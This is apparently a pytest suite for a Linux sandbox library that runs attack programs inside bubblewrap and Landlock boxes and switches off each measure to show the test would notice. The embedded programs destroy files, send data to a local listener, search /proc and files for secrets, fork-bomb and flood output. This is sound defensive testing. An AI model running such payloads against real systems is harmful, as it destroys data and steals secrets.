"""What must not happen, tried; and each measure taken out, to see that the trial would notice.

The trials destroy nothing but what these tests have made, even where a measure is out.
"""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import os
import socket
import threading
from pathlib import Path

import pytest

from testwright.boxes import bubblewrap, confined, mounts, seccomp, snapshot
from testwright.boxes.bubblewrap import BubblewrapBox
from testwright.boxes.environment import box_environment
from testwright.boxes.landlock import LandlockBox
from testwright.boxes.limits import kernel_limits
from testwright.boxes.protocol import MIB, BoxExit, Command, Limits, World
from testwright.boxes.reaping import Registry
from testwright.boxes.seccomp import Rule, number_of
from testwright.boxes.snapshot import make_snapshot

from .conftest import CONTRACTS, Rig, alive

# --- deletes or changes files

DESTROY = """
import os, shutil, sys
def attempt(action, *arguments):
    try:
        action(*arguments)
    except Exception as error:
        return type(error).__name__
    print("done:", action.__name__, *arguments[:1])
outside, workspace = sys.argv[1:]
for folder in (outside, workspace):
    for top, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(top, name)
            attempt(os.chmod, path, 0o777)
            attempt(os.utime, path, (1, 1))
            attempt(os.truncate, path, 0)
            attempt(os.link, path, os.path.join(os.environ["TMPDIR"], "stolen"))
            attempt(os.rename, path, path + ".moved")
    attempt(os.symlink, "x", os.path.join(folder, "link"))
    attempt(os.mkdir, os.path.join(folder, "made"))
    attempt(open, os.path.join(folder, "kept.txt"), "w")
    attempt(open, os.path.join(folder, "new.txt"), "w")
    attempt(os.chmod, folder, 0o700)
    attempt(os.chmod, os.path.join(folder, "kept.txt"), 0o700)
    attempt(os.utime, os.path.join(folder, "kept.txt"), (1, 1))
    attempt(os.setxattr, os.path.join(folder, "kept.txt"), "user.x", b"x")
    attempt(os.remove, os.path.join(folder, "kept.txt"))
    shutil.rmtree(folder, ignore_errors=True)
"""


def state(*folders: Path) -> dict[str, str]:
    """Everything about these trees that a change would show."""
    seen = {}
    for folder in folders:
        for path in (folder, *sorted(folder.rglob("*"))) if folder.exists() else ():
            status = path.lstat()
            content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
            seen[str(path)] = f"{status.st_mode:o} {status.st_mtime_ns} {content}"
    return seen


def open_to_all(folder: Path) -> None:
    """So that it is the box that protects, not the owner."""
    for path in (folder, *folder.rglob("*")):
        path.chmod(0o777)


async def destroyed(rig: Rig, outside: Path) -> bool:
    """Whether a program in the box could change a folder outside, the workspace or its snapshot."""
    open_to_all(rig.world.snapshot)
    (rig.world.snapshot / "kept.txt").write_text("kept", "utf-8")
    (rig.world.snapshot / "kept.txt").chmod(0o777)
    before = state(outside, rig.world.snapshot, rig.world.workspace)
    _, ended = await rig.run(DESTROY, str(outside), rig.seen(rig.world.workspace))
    assert ended.cause == "exited", ended
    return state(outside, rig.world.snapshot, rig.world.workspace) != before


async def test_files_outside_and_the_workspace_stay_as_they_are(rig: Rig, outside: Path) -> None:
    assert await destroyed(rig, outside) is not rig.contract.files


async def test_without_read_only_mounts_files_would_be_destroyed(
    weak_bubblewrap: Rig, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = mounts.world_mounts

    def writable(world: World, *, foreign_user: bool) -> list[str]:
        options = honest(world, foreign_user=foreign_user)
        return ["--bind" if word == "--ro-bind" else word for word in options] + ["--bind", str(outside), str(outside)]

    monkeypatch.setattr(mounts, "world_mounts", writable)
    assert await destroyed(weak_bubblewrap, outside)


async def test_without_landlock_rules_files_would_be_destroyed(
    weak_landlock: Rig, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(LandlockBox, "_landlock", lambda *_: None)
    assert await destroyed(weak_landlock, outside)


async def test_files_outside_cannot_be_read(rig: Rig, outside: Path) -> None:
    program = """
import os, sys
try:
    print(open(sys.argv[1] + "/kept.txt").read())
except OSError as error:
    print("refused")
try:
    print(os.listdir(sys.argv[1]))
except OSError as error:
    print("refused")
try:
    print("canary", os.listdir("/home"), os.listdir("/root"))
except OSError as error:
    print("refused")
"""
    lines, _ = await rig.run(program, str(outside))
    assert ("canary" not in "".join(lines)) is rig.contract.files


async def test_the_system_cannot_be_written(rig: Rig) -> None:
    program = """
import os
for folder in ("/", "/etc", "/usr", "/usr/bin", "/dev", "/var", "/opt", "/root", "/home", "/run", "/proc/sys/kernel"):
    path = folder + "/testwright-canary"
    try:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
    except OSError:
        continue
    print("written", path)
    os.unlink(path)
"""
    lines, ended = await rig.run(program)
    assert ended.code == 0, ended.stderr
    assert lines == []


# --- exfiltrates

CALL_HOME = """
import os, socket, sys
port, path, name = int(sys.argv[1]), sys.argv[2], sys.argv[3]
def reach(family, kind, address, word):
    try:
        with socket.socket(family, kind) as client:
            client.settimeout(2)
            client.connect(address)
            client.sendall(b"secret")
            if kind == socket.SOCK_STREAM:
                print(word)
    except OSError:
        pass
reach(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port), "loopback")
reach(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port), "datagram")
reach(socket.AF_UNIX, socket.SOCK_STREAM, path, "local socket")
reach(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + name, "abstract socket")
try:
    print("resolved", socket.getaddrinfo("example.com", 80))
except OSError:
    pass
"""


class Listener:
    """A host that listens on everything that a program might call."""

    def __init__(self, folder: Path) -> None:
        self.heard: list[bytes] = []
        self.path = folder / "listener"
        self.name = f"testwright-{folder.name}"
        self.stream = socket.create_server(("127.0.0.1", 0))
        self.port = self.stream.getsockname()[1]
        self.datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.datagram.bind(("127.0.0.1", self.port))
        self.datagram.settimeout(0)
        self.local = socket.socket(socket.AF_UNIX)
        self.local.bind(str(self.path))
        self.path.chmod(0o777)
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(f"\0{self.name}")
        for server in (self.local, self.abstract):
            server.listen()
        for server in (self.stream, self.local, self.abstract):
            threading.Thread(target=self._take, args=(server,), daemon=True).start()

    def _take(self, server: socket.socket) -> None:
        while True:
            try:
                client, _ = server.accept()
            except OSError:
                return
            with client:
                self.heard.append(client.recv(100))

    def close(self) -> None:
        with contextlib.suppress(BlockingIOError):
            self.heard.append(self.datagram.recv(100))
        for server in (self.stream, self.datagram, self.local, self.abstract):
            with contextlib.suppress(OSError):
                server.shutdown(socket.SHUT_RDWR)
            server.close()


async def called_home(rig: Rig, outside: Path) -> list[str]:
    """What a program in the box could reach, by its own word or the listener's."""
    listener = Listener(outside)
    try:
        lines, ended = await rig.run(CALL_HOME, str(listener.port), str(listener.path), listener.name)
        assert ended.cause == "exited"
    finally:
        listener.close()
    return [*lines, *(f"heard {data!r}" for data in listener.heard)]


async def test_nothing_can_be_reached(rig: Rig, outside: Path) -> None:
    assert bool(await called_home(rig, outside)) is not rig.contract.network


async def test_without_a_network_of_its_own_the_host_would_be_reached(
    weak_bubblewrap: Rig, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = BubblewrapBox._options

    def shared(self: BubblewrapBox, world: World, wanted: Limits) -> list[str]:
        options = honest(self, world, wanted)
        return [word for word in options if word != "--unshare-net"] + (
            ["--share-net"] if "--unshare-all" in options else []
        )

    monkeypatch.setattr(BubblewrapBox, "_options", shared)
    reached = await called_home(weak_bubblewrap, outside)
    assert "loopback" in reached
    assert "abstract socket" in reached


async def test_without_the_socket_filter_the_host_would_be_reached(
    weak_landlock: Rig, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Landlock's own rules on the network go as well: either would hold TCP back.
    honest = LandlockBox._landlock

    def files_only(self: LandlockBox, world: World, scratch: Path, version: int) -> dict[str, object]:
        return {**honest(self, world, scratch, version), "network": 0, "scopes": 0}

    monkeypatch.setattr(LandlockBox, "_landlock", files_only)
    monkeypatch.setattr(seccomp, "no_network", list[Rule])
    reached = await called_home(weak_landlock, outside)
    assert "loopback" in reached
    assert "abstract socket" in reached


# --- steals secrets

SEARCH = """
import os, sys
CANARY = b"canary" + b"-in"  # in two parts: this text is in the command line
for name, value in os.environ.items():
    if CANARY.decode() in value:
        print("variable", name)
try:
    processes = os.listdir("/proc")
except OSError:
    processes = sys.argv[2:] + [str(os.getppid())]
for name in processes:
    if name.isdigit():
        for file in ("environ", "cmdline"):
            try:
                text = open(f"/proc/{name}/{file}", "rb").read()
            except OSError:
                continue
            if CANARY in text:
                print("process", file)
for top, folders, names in os.walk(sys.argv[1]):
    for name in names:
        if CANARY in open(os.path.join(top, name), "rb").read():
            print("file", name)
"""


async def secrets_found(rig: Rig) -> set[str]:
    """Where a program in the box finds the canaries."""
    lines, ended = await rig.run(SEARCH, rig.seen(rig.world.workspace), str(os.getpid()))
    assert ended.code == 0, ended.stderr
    return set(lines)


@pytest.fixture
def canary(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENROUTER_API_KEY", "canary-in-environment")


@pytest.mark.usefixtures("canary")
async def test_no_secret_is_in_the_box(rig: Rig) -> None:
    assert await secrets_found(rig) == set()
    assert (rig.world.snapshot / "src" / "shop" / "secrets.py").is_file()


@pytest.mark.usefixtures("canary")
async def test_without_the_allow_list_the_key_would_be_found(
    weak_bubblewrap: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    def everything(world: World, command: Command, *, scratch: Path) -> dict[str, str]:
        return {**os.environ, **box_environment(world, command, scratch=scratch)}

    monkeypatch.setattr(bubblewrap, "box_environment", everything)
    assert "variable OPENROUTER_API_KEY" in await secrets_found(weak_bubblewrap)


async def test_without_the_patterns_secret_files_would_be_found(
    weak_bubblewrap: Rig, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(snapshot, "is_secret", lambda *_, **__: False)
    make_snapshot(weak_bubblewrap.world.workspace, tmp_path / "private" / "unfiltered")
    world = dataclasses.replace(weak_bubblewrap.world, snapshot=tmp_path / "private" / "unfiltered")
    found = await secrets_found(dataclasses.replace(weak_bubblewrap, world=world))
    assert found == {"file .env", "file config", "file id_rsa", "file deploy.pem"}


async def test_passed_variables_are_in_no_command_line(rig: Rig) -> None:
    world = dataclasses.replace(rig.world, environment={"PASSED": "testwright-canary-passed"})
    command = rig.command("import time; print('up', flush=True); time.sleep(60)")
    async with await rig.box.start(world, command) as process:
        async for _ in process.lines():
            break
        assert alive("testwright-canary-passed") == []


# --- fork bomb

BOMB = """
import os, sys, time
count = 0
for _ in range(int(sys.argv[2])):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        time.sleep(60)
        os._exit(0)
    count += 1
print(count, flush=True)
"""
ALLOWED = 20


async def forked(rig: Rig, token: str) -> int:
    """How many processes a program in the box could have at once; the trial stops at three times the limit."""
    lines, _ = await rig.run(BOMB, token, str(3 * ALLOWED), limits=Limits(processes=ALLOWED, wall=20))
    return int(lines[0]) if lines else 0  # nothing: it was killed for it before it could tell


async def test_processes_are_limited(rig: Rig, token: str) -> None:
    assert await forked(rig, token) < ALLOWED + 10  # what else the user starts meanwhile shifts a shared count
    assert alive(token) == []


async def test_without_the_limit_there_would_be_more(
    weak_bubblewrap: Rig, token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = kernel_limits

    def unlimited(wanted: Limits, *, processes_now: int) -> dict[str, tuple[int, int]]:
        return {**honest(wanted, processes_now=processes_now), "nproc": (4096, 4096)}

    monkeypatch.setattr(bubblewrap, "kernel_limits", unlimited)
    assert await forked(weak_bubblewrap, token) == 3 * ALLOWED


async def test_without_both_limits_landlock_would_let_more_be(
    weak_landlock: Rig, token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = kernel_limits

    def unlimited(wanted: Limits, *, processes_now: int) -> dict[str, tuple[int, int]]:
        return {**honest(wanted, processes_now=processes_now), "nproc": (4096, 4096)}

    monkeypatch.setattr(confined, "kernel_limits", unlimited)
    monkeypatch.setattr(confined._LauncherTree, "forks_are_limited", True)
    assert await forked(weak_landlock, token) == 3 * ALLOWED


async def test_a_real_fork_bomb_ends_and_nothing_is_left(rig: Rig, token: str) -> None:
    program = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
    _, ended = await rig.run(program, token, limits=Limits(wall=0.8, processes=64))
    assert ended.cause in {"wall", "killed", "memory"}
    assert alive(token) == []


# --- output flood

FLOOD = """
import os, sys
descriptor, chunk, left = int(sys.argv[1]), (b"x" * 1023 + b"\\n") * 1024, int(sys.argv[2])
while left > 0:
    left -= os.write(descriptor, chunk)
"""
CAP = 2 * MIB


async def flood(rig: Rig, descriptor: int, size: int, cap: int = CAP) -> tuple[int, BoxExit]:
    """Have a program write that much; how much of it came out on standard output, and how it ended."""
    lines, ended = await rig.run(FLOOD, str(descriptor), str(size), limits=Limits(output=cap, wall=30))
    return sum(len(line) + 1 for line in lines), ended


@pytest.mark.parametrize("descriptor", [1, 2])
async def test_a_flood_is_cut_off(rig: Rig, descriptor: int) -> None:
    came, ended = await flood(rig, descriptor, 1 << 30)
    assert ended.cause == "output"
    assert came <= CAP
    assert len(ended.stderr) < 66 * 1024


async def test_without_the_cap_a_flood_would_pass(weak_bubblewrap: Rig) -> None:
    came, ended = await flood(weak_bubblewrap, 1, 3 * CAP, cap=1 << 40)
    assert ended.cause == "exited"
    assert came == 3 * CAP
    _, ended = await flood(weak_bubblewrap, 2, 3 * CAP, cap=1 << 40)
    assert ended.cause == "exited"


# --- the filter of system calls itself


@pytest.mark.parametrize("call", ["keyctl", "unshare", "mount", "bpf", "ptrace", "open_by_handle_at"])
async def test_doors_of_the_kernel_are_shut(rig: Rig, call: str) -> None:
    if not rig.contract.files:
        return
    program = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall(int(sys.argv[1]), 0, 0, 0, 0, 0), ctypes.get_errno())
"""
    lines, _ = await rig.run(program, str(number_of(call)))
    if call == "ptrace" and rig.box.name == "bubblewrap":
        assert lines == ["0 0"]  # its own process namespace is all that it reaches
    else:
        assert lines == ["-1 1"]


@pytest.fixture
async def weak_bubblewrap(tmp_path: Path, world: World, interpreter: tuple[str, tuple[Path, ...]]) -> Rig:
    """A bubblewrap box that has been found good, so that a measure can be taken out afterwards."""
    registry = Registry(tmp_path / "state")
    box = BubblewrapBox(registry)
    probe = await box.probe()
    if not probe.usable:
        pytest.skip(probe.detail)
    return Rig(box, CONTRACTS["bubblewrap"], world, interpreter[0], registry)


@pytest.fixture
async def weak_landlock(tmp_path: Path, world: World, interpreter: tuple[str, tuple[Path, ...]]) -> Rig:
    """The same with Landlock."""
    registry = Registry(tmp_path / "state")
    box = LandlockBox(registry)
    probe = await box.probe()
    if not probe.usable:
        pytest.skip(probe.detail)
    return Rig(box, CONTRACTS["landlock"], world, interpreter[0], registry)
